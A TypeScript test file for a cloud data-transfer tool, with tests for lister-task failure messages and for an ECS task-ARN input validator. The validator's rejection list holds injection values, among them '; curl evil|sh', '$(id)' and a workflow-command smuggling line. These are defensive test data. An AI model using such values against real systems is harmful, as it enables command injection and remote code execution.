// Whether an awaited run's lister task died, and the words for it; and the await-run action's lister-task-arn rule.
import { describe, expect, test } from 'vitest';
import { ecsTaskArn, RuleViolation } from '../../../actions/lib/src/input-rules.ts';
import { diedListerReason } from '../../../worker/src/control/lister-outcome.ts';
import type { ListerTaskState } from '../../../worker/src/control/lister-task.ts';
import type { ListerState, RunRecord } from '../../../worker/src/ports/ledger.ts';

const taskArn = 'arn:aws:ecs:us-east-1:123456789012:task/ferry-cluster/0f3a9c1e2b4d4e6f8a0b1c2d3e4f5a6b';

function run(listerState: ListerState): RunRecord {
  const none = { objects: 0, bytes: 0 };
  return {
    runId: 'r',
    mappingId: 'm',
    mode: 'incremental',
    listerState,
    startedAt: new Date(0),
    planned: { objects: 10, bytes: 100 },
    skipped: none,
    copied: none,
    failed: none,
    toDelete: none,
    deleted: none,
  };
}

function stopped(exitCode: number | undefined, extra: Partial<ListerTaskState> = {}): ListerTaskState {
  return {
    taskArn,
    lastStatus: 'STOPPED',
    stopped: true,
    stoppedReason: 'Essential container in task exited',
    ...(exitCode !== undefined ? { exitCode } : {}),
    ...extra,
  };
}

describe('diedListerReason', () => {
  test('stopped before recording the run: its reason, exit code and the container reason', () => {
    expect(
      diedListerReason({
        runId: 'r',
        run: undefined,
        task: stopped(2, { containerReason: 'ConfigError: ssm:/ferry/config not found' }),
      }),
    ).toBe(
      `the lister task ${taskArn} stopped before recording run r: Essential container in task exited ` +
        '(exit code 2: ConfigError: ssm:/ferry/config not found)',
    );
  });

  test('an image that could not be pulled: no exit code, and whatever exit code, no run is a death', () => {
    const pull = stopped(undefined, {
      stoppedReason: 'CannotPullContainerError: pull image manifest has been retried 5 time(s)',
    });
    expect(diedListerReason({ runId: 'r', run: undefined, task: pull })).toBe(
      `the lister task ${taskArn} stopped before recording run r: ` +
        'CannotPullContainerError: pull image manifest has been retried 5 time(s) (no exit code)',
    );
    const bare: ListerTaskState = { taskArn, lastStatus: 'STOPPED', stopped: true, exitCode: 0 };
    expect(diedListerReason({ runId: 'r', run: undefined, task: bare })).toBe(
      `the lister task ${taskArn} stopped before recording run r: no reason given (exit code 0)`,
    );
  });

  test('stopped mid-listing with an exit code other than 0 (or none): died, and a re-run resumes it', () => {
    expect(
      diedListerReason({
        runId: 'r',
        run: run('LISTING'),
        task: stopped(137, { containerReason: 'OutOfMemoryError' }),
      }),
    ).toBe(
      `the lister task ${taskArn} of run r stopped mid-listing: Essential container in task exited ` +
        '(exit code 137: OutOfMemoryError); the next nightly run (or start-lister / ferry start with resume) picks it ' +
        'up from its checkpoint',
    );
    expect(diedListerReason({ runId: 'r', run: run('LISTING'), task: stopped(undefined) })).toMatch(
      /stopped mid-listing: Essential container in task exited \(no exit code\)/,
    );
  });

  test('no death: a task not stopped for good, exit code 0 while listing, or a lister state the ledger settled', () => {
    const stopping = stopped(2, { stopped: false, lastStatus: 'DEPROVISIONING' });
    expect(diedListerReason({ runId: 'r', run: undefined, task: stopping })).toBeUndefined();
    expect(diedListerReason({ runId: 'r', run: run('LISTING'), task: stopping })).toBeUndefined();
    expect(diedListerReason({ runId: 'r', run: run('LISTING'), task: stopped(0) })).toBeUndefined();
    expect(diedListerReason({ runId: 'r', run: run('LISTED'), task: stopped(1) })).toBeUndefined();
    expect(diedListerReason({ runId: 'r', run: run('FAILED'), task: stopped(1) })).toBeUndefined();
  });
});

describe('the lister-task-arn input rule (ecsTaskArn)', () => {
  test('accepts task ARNs as RunTask returns them, long and old format, in any partition', () => {
    for (const arn of [
      taskArn,
      'arn:aws:ecs:eu-central-2:123456789012:task/ferry_prod-cluster/9b2c2a06-4f7e-4a4e-9d0d-2f3d1c0e5b7a',
      'arn:aws:ecs:us-east-1:123456789012:task/0f3a9c1e2b4d4e6f8a0b1c2d3e4f5a6b',
      'arn:aws-cn:ecs:cn-north-1:123456789012:task/c/1',
      'arn:aws-us-gov:ecs:us-gov-west-1:123456789012:task/c/1',
    ])
      expect(ecsTaskArn(arn)).toBe(arn);
  });

  test('refuses other ARNs, malformed ones and hostile values', () => {
    for (const text of [
      'arn:aws:ecs:us-east-1:123456789012:task-definition/ferry-lister:3',
      'arn:aws:ecs:us-east-1:123456789012:cluster/ferry',
      'arn:aws:s3:::bucket',
      'arn:aws:ecs:us-east-1:12345:task/c/1',
      'arn:aws:ecs:moon-1:123456789012:task/c/1',
      'arn:aws:ecs:us-east-1:123456789012:task/c/1/extra',
      `${taskArn}\n::stop-commands::x`,
      `${taskArn}; curl evil|sh`,
      '$(id)',
      'task/c/1',
    ])
      expect(() => ecsTaskArn(text), text).toThrow(RuleViolation);
  });
});
